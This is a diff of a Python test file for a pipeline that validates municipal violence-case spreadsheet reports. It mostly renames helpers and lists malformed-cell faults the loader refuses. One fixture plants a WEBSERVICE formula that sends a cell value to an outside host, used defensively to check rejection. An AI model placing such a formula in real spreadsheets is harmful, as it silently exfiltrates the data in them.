@@ -14,13 +14,13 @@ import pytest
 
 from etl import pipeline, report
 from etl.municipal.continued import Continued
-from etl.reading.edition import read
+from etl.reading.edition import read_edition
 from observatory.catalog import Catalog
 from observatory.model import Period
 from observatory.store.private import workspace
 from observatory.store.private.workspace import Workspace
 from tests.etl.municipal import reports
-from tests.etl.municipal.reports import changed, put
+from tests.etl.municipal.reports import cell_edit, changed
 from tests.sampling import sample, share
 
 HOME, OFFICES, DETAIL = "Por residencia", "Por oficina", "Detalle"
@@ -87,57 +87,57 @@ def of_a_month_to_come(path: Path, catalog: Catalog) -> Path:
 
 PLAIN = {
     "sexes that miss their total": Fault(
-        edited(put(HOME, "C8", 40)), HOME, "B8", "Sexo: 40 + 5 = 45 (Mujeres, Varones) y el total dice 52"
+        edited(cell_edit(HOME, "C8", 40)), HOME, "B8", "Sexo: 40 + 5 = 45 (Mujeres, Varones) y el total dice 52"
     ),
-    "sexes that pass their total": Fault(edited(put(HOME, "D8", 6)), HOME, "B8", "47 + 6 = 53"),
-    "forms that miss their total": Fault(edited(put(HOME, "F9", 1)), HOME, "B9", "Forma principal"),
-    "ages that miss their total": Fault(edited(put(HOME, "P9", None)), HOME, "B9", "Edad de la persona"),
+    "sexes that pass their total": Fault(edited(cell_edit(HOME, "D8", 6)), HOME, "B8", "47 + 6 = 53"),
+    "forms that miss their total": Fault(edited(cell_edit(HOME, "F9", 1)), HOME, "B9", "Forma principal"),
+    "ages that miss their total": Fault(edited(cell_edit(HOME, "P9", None)), HOME, "B9", "Edad de la persona"),
     "first and again that miss their total": Fault(
-        edited(put(HOME, "U9", 0)), HOME, "B9", "Vez que acude"
+        edited(cell_edit(HOME, "U9", 0)), HOME, "B9", "Vez que acude"
     ),
     "a total without parts": Fault(
-        edited(*(put(HOME, f"{column}8", None) for column in "CD")), HOME, "B8", "no hay ninguna parte"
+        edited(*(cell_edit(HOME, f"{column}8", None) for column in "CD")), HOME, "B8", "no hay ninguna parte"
     ),
     "a total that all its parts deny": Fault(
-        edited(put(HOME, "B6", 41)), HOME, "B6", "El total dice 41 y todas sus partes suman 40"
+        edited(cell_edit(HOME, "B6", 41)), HOME, "B6", "El total dice 41 y todas sus partes suman 40"
     ),
-    "a negative count": Fault(edited(put(HOME, "B6", -4)), HOME, "B6", "negativa: «-4»"),
-    "half a case": Fault(edited(put(HOME, "C6", 12.5)), HOME, "C6", "número entero"),
+    "a negative count": Fault(edited(cell_edit(HOME, "B6", -4)), HOME, "B6", "negativa: «-4»"),
+    "half a case": Fault(edited(cell_edit(HOME, "C6", 12.5)), HOME, "C6", "número entero"),
     "a thousand with a point": Fault(
-        edited(put(HOME, "B6", "1.234")), HOME, "B6", "número entero", "1234, no 1.234"
+        edited(cell_edit(HOME, "B6", "1.234")), HOME, "B6", "número entero", "1234, no 1.234"
     ),
-    "a word for a number": Fault(edited(put(HOME, "D7", "varios")), HOME, "D7", "«varios» no es un número"),
-    "a dash for a number": Fault(edited(put(HOME, "D7", "-")), HOME, "D7", "«-» no es un número", "s/d"),
+    "a word for a number": Fault(edited(cell_edit(HOME, "D7", "varios")), HOME, "D7", "«varios» no es un número"),
+    "a dash for a number": Fault(edited(cell_edit(HOME, "D7", "-")), HOME, "D7", "«-» no es un número", "s/d"),
     "a date for a number": Fault(
-        edited(put(HOME, "B6", date(2024, 3, 5))), HOME, "B6", "«2024-03-05» no es un número"
+        edited(cell_edit(HOME, "B6", date(2024, 3, 5))), HOME, "B6", "«2024-03-05» no es un número"
     ),
-    "a number too many digits long": Fault(edited(put(HOME, "B6", 4_000_000)), HOME, "B6", "demasiado"),
-    "a name beside a number": Fault(edited(put(HOME, "C7", "33 casos")), HOME, "C7", "no es un número"),
-    "a total left out": Fault(edited(put(HOME, "B6", None)), HOME, "B6", "Falta el total", "escriba 0"),
+    "a number too many digits long": Fault(edited(cell_edit(HOME, "B6", 4_000_000)), HOME, "B6", "demasiado"),
+    "a name beside a number": Fault(edited(cell_edit(HOME, "C7", "33 casos")), HOME, "C7", "no es un número"),
+    "a total left out": Fault(edited(cell_edit(HOME, "B6", None)), HOME, "B6", "Falta el total", "escriba 0"),
     "a total that is not known and parts that are": Fault(
-        edited(*(put(HOME, f"{column}6", None) for column in "DFGHOPQTU"), put(HOME, "B6", "s/d")),
+        edited(*(cell_edit(HOME, f"{column}6", None) for column in "DFGHOPQTU"), cell_edit(HOME, "B6", "s/d")),
         HOME, "C6", "El total dice s/d y «Mujeres» dice 36",
     ),
     "a district that does not exist": Fault(
-        edited(put(HOME, "A8", "Distrito 15")), HOME, "A8", "«Distrito 15» no es un lugar", "Distrito"
+        edited(cell_edit(HOME, "A8", "Distrito 15")), HOME, "A8", "«Distrito 15» no es un lugar", "Distrito"
     ),
-    "a quarter for a district": Fault(edited(put(HOME, "A8", "Villa Dolores")), HOME, "A8", "no es un lugar"),
-    "a row without its district": Fault(edited(put(HOME, "A8", None)), HOME, "A8", "no dice de qué lugar"),
+    "a quarter for a district": Fault(edited(cell_edit(HOME, "A8", "Villa Dolores")), HOME, "A8", "no es un lugar"),
+    "a row without its district": Fault(edited(cell_edit(HOME, "A8", None)), HOME, "A8", "no dice de qué lugar"),
     "a district twice": Fault(
-        edited(put(HOME, "A8", "distrito 02")), HOME, "A8", "está dos veces: ya está en la fila 7"
+        edited(cell_edit(HOME, "A8", "distrito 02")), HOME, "A8", "está dos veces: ya está en la fila 7"
     ),
     "a district left out": Fault(edited(row_gone), HOME, "A5", "Falta la fila «Distrito 5»"),
-    "numbers below the total": Fault(edited(put(HOME, "B24", 7)), HOME, "B24", "debajo de la fila TOTAL"),
-    "a total typed over": Fault(edited(put(HOME, "B22", 341)), HOME, "B22", "dice 341", "fórmula"),
+    "numbers below the total": Fault(edited(cell_edit(HOME, "B24", 7)), HOME, "B24", "debajo de la fila TOTAL"),
+    "a total typed over": Fault(edited(cell_edit(HOME, "B22", 341)), HOME, "B22", "dice 341", "fórmula"),
     "a column of totals typed over": Fault(
-        edited(put(OFFICES, "D21", 1)), OFFICES, "D21", "sus filas suman 312"
+        edited(cell_edit(OFFICES, "D21", 1)), OFFICES, "D21", "sus filas suman 312"
     ),
     "a column without its header": Fault(
-        edited(put(HOME, "D5", None)), HOME, "A5", "Falta la columna «Varones»"
+        edited(cell_edit(HOME, "D5", None)), HOME, "A5", "Falta la columna «Varones»"
     ),
-    "a column twice": Fault(edited(put(HOME, "X5", "mujeres")), HOME, "X5", "está dos veces"),
+    "a column twice": Fault(edited(cell_edit(HOME, "X5", "mujeres")), HOME, "X5", "está dos veces"),
     "a column of the clerk's own with numbers": Fault(
-        edited(put(HOME, "X5", "Adolescentes"), put(HOME, "X6", 3)), HOME, "X5", "no es del formulario"
+        edited(cell_edit(HOME, "X5", "Adolescentes"), cell_edit(HOME, "X6", 3)), HOME, "X5", "no es del formulario"
     ),
     "no headers at all": Fault(edited(headers_gone), HOME, "A1", "No se encuentran los encabezados"),
     "a sheet left out": Fault(edited(without(OFFICES)), OFFICES, "A1", "Falta la hoja «Por oficina»"),
@@ -148,26 +148,26 @@ PLAIN = {
     "another office's form": Fault(of_another_source, MACHINE, "A1", "Es el formulario de «gamea_dna»"),
     "a workbook of the clerk's own": Fault(edited(without(MACHINE)), MACHINE, "A1", "falta su hoja oculta"),
     "another municipality's form": Fault(
-        edited(put(MACHINE, "B4", "BO-020101")), MACHINE, "A1", "se esperaba el de BO-020105"
+        edited(cell_edit(MACHINE, "B4", "BO-020101")), MACHINE, "A1", "se esperaba el de BO-020105"
     ),
-    "a form of an older version": Fault(edited(put(MACHINE, "B3", 0)), MACHINE, "A1", "Es la versión 0"),
+    "a form of an older version": Fault(edited(cell_edit(MACHINE, "B3", 0)), MACHINE, "A1", "Es la versión 0"),
     "the form of another month": Fault(
-        edited(put(COVER, "B3", "2024-04")), COVER, "B3", "abril de 2024", "--month 2024-04"
+        edited(cell_edit(COVER, "B3", "2024-04")), COVER, "B3", "abril de 2024", "--month 2024-04"
     ),
-    "a month that cannot be read": Fault(edited(put(COVER, "B3", "el pasado")), COVER, "B3", "no se entiende"),
-    "no month": Fault(edited(put(COVER, "B3", None)), COVER, "B3", "Falta el mes"),
+    "a month that cannot be read": Fault(edited(cell_edit(COVER, "B3", "el pasado")), COVER, "B3", "no se entiende"),
+    "no month": Fault(edited(cell_edit(COVER, "B3", None)), COVER, "B3", "Falta el mes"),
     "a month that is not over": Fault(of_a_month_to_come, COVER, "B3", "El mes no ha terminado"),
-    "a sending nobody knows": Fault(edited(put(COVER, "B4", "tercero")), COVER, "B4", "no es un envío"),
-    "an office without a name": Fault(edited(put(OFFICES, "A8", None)), OFFICES, "A8", "de qué oficina"),
+    "a sending nobody knows": Fault(edited(cell_edit(COVER, "B4", "tercero")), COVER, "B4", "no es un envío"),
+    "an office without a name": Fault(edited(cell_edit(OFFICES, "A8", None)), OFFICES, "A8", "de qué oficina"),
     "an office with a long name": Fault(
-        edited(put(OFFICES, "A8", "Oficina de la plaza de Río Seco")), OFFICES, "A8", "nombre corto"
+        edited(cell_edit(OFFICES, "A8", "Oficina de la plaza de Río Seco")), OFFICES, "A8", "nombre corto"
     ),
-    "an office twice": Fault(edited(put(OFFICES, "A8", "CENTRAL")), OFFICES, "A8", "La oficina «CENTRAL»"),
+    "an office twice": Fault(edited(cell_edit(OFFICES, "A8", "CENTRAL")), OFFICES, "A8", "La oficina «CENTRAL»"),
     "an office in no district": Fault(
-        edited(put(OFFICES, "B7", "Distrito 20")), OFFICES, "B7", "«Distrito 20» no es un lugar"
+        edited(cell_edit(OFFICES, "B7", "Distrito 20")), OFFICES, "B7", "«Distrito 20» no es un lugar"
     ),
     "an office beyond the municipality": Fault(
-        edited(put(OFFICES, "B7", "No se sabe")), OFFICES, "B7", "no es un lugar"
+        edited(cell_edit(OFFICES, "B7", "No se sabe")), OFFICES, "B7", "no es un lugar"
     ),
     "no office": Fault(edited(no_offices), OFFICES, "A5", "No hay ninguna oficina"),
     "sheets that do not agree": Fault(
@@ -175,23 +175,23 @@ PLAIN = {
         "«Casos de violencia» suma 341 en «Por oficina» y 340 en «Por residencia»",
     ),
     "civil matters that miss their column": Fault(
-        edited(put(DETAIL, "B22", 8)), DETAIL, "B22", "suma 11 y debe sumar 12"
+        edited(cell_edit(DETAIL, "B22", 8)), DETAIL, "B22", "suma 11 y debe sumar 12"
     ),
     "other forms that nobody counted": Fault(
-        edited(put(DETAIL, "B7", 3)), DETAIL, "B7", "suma 3 y debe sumar 0"
+        edited(cell_edit(DETAIL, "B7", 3)), DETAIL, "B7", "suma 3 y debe sumar 0"
     ),
-    "more measures than cases": Fault(edited(put(DETAIL, "B59", 341)), DETAIL, "B59", "el total del mes es 340"),
+    "more measures than cases": Fault(edited(cell_edit(DETAIL, "B59", 341)), DETAIL, "B59", "el total del mes es 340"),
     "a row of a list that is not the form's": Fault(
-        edited(put(DETAIL, "A38", "Vecino"), put(DETAIL, "B38", 3)), DETAIL, "A38", "«Vecino» no es una fila"
+        edited(cell_edit(DETAIL, "A38", "Vecino"), cell_edit(DETAIL, "B38", 3)), DETAIL, "A38", "«Vecino» no es una fila"
     ),
     "a row of a list twice": Fault(
-        edited(put(DETAIL, "A38", "Pareja"), put(DETAIL, "B38", 3)), DETAIL, "A38", "está dos veces"
+        edited(cell_edit(DETAIL, "A38", "Pareja"), cell_edit(DETAIL, "B38", 3)), DETAIL, "A38", "está dos veces"
     ),
     "a formula whose result was not saved": Fault(
-        edited(put(HOME, "C6", "=30+6")), HOME, "C6", "fórmula sin resultado guardado"
+        edited(cell_edit(HOME, "C6", "=30+6")), HOME, "C6", "fórmula sin resultado guardado"
     ),
     "a formula that asks another host": Fault(
-        edited(put(HOME, "C6", '=WEBSERVICE("http://example.org/?q="&B6)')), HOME, "C6", "sin resultado"
+        edited(cell_edit(HOME, "C6", '=WEBSERVICE("http://example.org/?q="&B6)')), HOME, "C6", "sin resultado"
     ),
 }  # fmt: skip
 
@@ -244,8 +244,8 @@ def sparse(path: Path, _catalog: Catalog) -> Path:
 
 
 def cut(path: Path, catalog: Catalog) -> Path:
-    whole = reports.report(path, catalog).read_bytes()
-    path.write_bytes(whole[: len(whole) // 2])
+    content = reports.report(path, catalog).read_bytes()
+    path.write_bytes(content[: len(content) // 2])
     return path
 
 
@@ -314,33 +314,33 @@ HOSTILE: dict[str, tuple[Build, str]] = {
 
 
 @pytest.fixture(scope="module")
-def held(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog) -> Iterator[Workspace]:
+def loaded(tmp_path_factory: pytest.TempPathFactory, catalog: Catalog) -> Iterator[Workspace]:
     """A workspace that must stay empty."""
     yield Workspace(tmp_path_factory.mktemp("store") / "workspace.db", catalog)
 
 
-def refusals(path: Path, held: Workspace, catalog: Catalog) -> list[tuple[str, str, str, str]]:
+def refusals(path: Path, loaded: Workspace, catalog: Catalog) -> list[tuple[str, str, str, str]]:
     """What loading `path` says is wrong, after having looked that nothing was written."""
-    reading = read(path, source=catalog.sources["gamea_slim"], catalog=catalog)
-    outcome = pipeline.ingest(held, Continued(reading, held), catalog)
+    reading = read_edition(path, source=catalog.sources["gamea_slim"], catalog=catalog)
+    outcome = pipeline.ingest(loaded, Continued(reading, loaded), catalog)
     assert not outcome.accepted
-    with held.loading() as connection:
+    with loaded.loading() as connection:
         assert workspace.snapshots_held(connection) == []
         assert workspace.table_rows(connection, "problem") == []
-    assert all(one.hint for one in outcome.problems)
-    errors = [one for one in outcome.problems if report.exit_code([one])]
-    return [(one.sheet, one.cell, one.message, one.hint) for one in errors]
+    assert all(problem.hint for problem in outcome.problems)
+    errors = [problem for problem in outcome.problems if report.exit_code([problem])]
+    return [(error.sheet, error.cell, error.message, error.hint) for error in errors]
 
 
 @pytest.mark.parametrize("name", share(list(PLAIN), 2))
 def test_a_fault_of_a_clerk_is_refused_with_its_cell(
-    name: str, tmp_path: Path, held: Workspace, catalog: Catalog
+    name: str, tmp_path: Path, loaded: Workspace, catalog: Catalog
 ) -> None:
     fault = PLAIN[name]
-    said = refusals(fault.build(tmp_path / "informe.xlsx", catalog), held, catalog)
-    assert [(sheet, cell) for sheet, cell, _, _ in said] == [(fault.sheet, fault.cell)], said
-    assert fault.says in said[0][2]
-    assert fault.hint in said[0][3]
+    refused = refusals(fault.build(tmp_path / "informe.xlsx", catalog), loaded, catalog)
+    assert [(sheet, cell) for sheet, cell, _, _ in refused] == [(fault.sheet, fault.cell)], refused
+    assert fault.says in refused[0][2]
+    assert fault.hint in refused[0][3]
 
 
 # These are opened in an interpreter of their own, as for an office; the others in a fork with the same code and limits.
@@ -349,14 +349,14 @@ IN_ITS_OWN = sample(list(HOSTILE), 3)
 
 @pytest.mark.parametrize("name", HOSTILE)
 def test_what_an_attacker_tries_is_refused_with_a_sentence(
-    name: str, tmp_path: Path, held: Workspace, catalog: Catalog, request: pytest.FixtureRequest
+    name: str, tmp_path: Path, loaded: Workspace, catalog: Catalog, request: pytest.FixtureRequest
 ) -> None:
     if name in IN_ITS_OWN:
         request.getfixturevalue("own_process")
     build, says = HOSTILE[name]
-    said = refusals(build(tmp_path / "informe.xlsx", catalog), held, catalog)
-    assert len(said) == 1, said
-    assert says in said[0][2]
+    refused = refusals(build(tmp_path / "informe.xlsx", catalog), loaded, catalog)
+    assert len(refused) == 1, refused
+    assert says in refused[0][2]
 
 
 def test_there_are_forty_and_more(catalog: Catalog) -> None:
